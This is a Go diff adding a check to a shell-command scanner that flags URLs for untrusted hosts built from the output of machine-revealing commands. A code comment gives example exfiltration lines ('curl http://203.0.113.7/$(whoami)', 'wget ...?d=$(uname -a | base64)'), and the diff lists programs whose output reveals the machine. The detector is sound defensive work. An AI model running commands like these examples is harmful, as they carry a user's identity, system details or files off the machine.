@@ -126,6 +126,9 @@ func (s *scan) checkExfilCommands(cs *cmdScan) {
 		if kind == "dns" || kind == "http" {
 			s.checkDNSExfil(v, kind)
 		}
+		if kind == "http" {
+			s.checkURLData(v)
+		}
 		if !s.enabled(rExfilFile) {
 			continue
 		}
@@ -428,4 +431,93 @@ func (cs *cmdScan) commandDestination() (destination, bool) {
 		d.label = "an email recipient"
 	}
 	return d, found
+}
+
+// checkURLData flags a URL for an untrusted host whose path or query is
+// built from the output of a command that reveals the machine or its
+// files: curl http://203.0.113.7/$(whoami), wget "…?d=$(uname -a | base64)".
+// A GET carries data out as well as a POST. Platform names for download
+// URLs ($(uname -s)-$(uname -m)) and versions fetched from elsewhere
+// ($(curl …/stable.txt)) are everyday and reveal nothing.
+func (s *scan) checkURLData(v *cmdView) {
+	if !s.enabled(rExfilURLData) {
+		return
+	}
+	for _, a := range v.args {
+		i := strings.Index(a, "://")
+		if i < 0 || !hasSubstitution(a[i:]) {
+			continue
+		}
+		rest := a[i+3:]
+		j := strings.IndexAny(rest, "/?#")
+		if j < 0 {
+			continue // a substitution in the host is exfil.dns
+		}
+		host := urlHost(a)
+		if host == "" || isLoopbackHost(host) || s.an.trusted.match(host) {
+			continue
+		}
+		if cmd, ok := revealingSubstitution(rest[j:]); ok {
+			s.add(rExfilURLData, v.prog+" puts the output of "+cmd+" into a URL for "+host+": the request carries it off the machine; refuse it unless you know the host",
+				v.prog+" "+evJoin(v.args))
+			return
+		}
+	}
+}
+
+// revealingSubstitution returns the first command substituted into s
+// ($(…) or `…`) that reveals the machine, its user or its files.
+func revealingSubstitution(s string) (string, bool) {
+	for len(s) > 0 {
+		i := strings.IndexAny(s, "$`")
+		if i < 0 {
+			return "", false
+		}
+		var inner string
+		switch {
+		case s[i] == '`':
+			end := strings.IndexByte(s[i+1:], '`')
+			if end < 0 {
+				return "", false
+			}
+			inner, s = s[i+1:i+1+end], s[i+2+end:]
+		case strings.HasPrefix(s[i:], "$("):
+			end := strings.IndexByte(s[i+2:], ')')
+			if end < 0 {
+				return "", false
+			}
+			inner, s = s[i+2:i+2+end], s[i+3+end:]
+		default:
+			s = s[i+1:]
+			continue
+		}
+		fields := strings.Fields(inner)
+		if len(fields) > 0 && revealsMachine(baseName(fields[0]), fields[1:]) {
+			return strings.TrimSpace(inner), true
+		}
+	}
+	return "", false
+}
+
+// revealsMachine reports programs whose output describes the machine, its
+// user, its network or its files.
+func revealsMachine(prog string, args []string) bool {
+	switch prog {
+	case "whoami", "id", "hostname", "hostnamectl", "groups", "who", "w", "last", "users", "pwd", "ls", "ps", "env", "printenv",
+		"ifconfig", "ip", "ipconfig", "netstat", "ss", "arp", "cat", "head", "tail", "base64", "xxd", "od", "hexdump", "tar",
+		"gzip", "zip", "find", "history", "crontab", "lsblk", "df", "mount", "dmesg", "sw_vers", "scutil", "getent":
+		return true
+	case "uname":
+		// -s, -m, -p, -o (platform) name a download; -a, -n, -r, -v
+		// describe this machine.
+		for _, a := range args {
+			if a == "--all" || a == "--nodename" || a == "--kernel-release" || a == "--kernel-version" ||
+				len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[1:], "anrv") {
+				return true
+			}
+		}
+	case "git":
+		return len(args) > 0 && (args[0] == "config" || args[0] == "remote" || args[0] == "log")
+	}
+	return false
 }
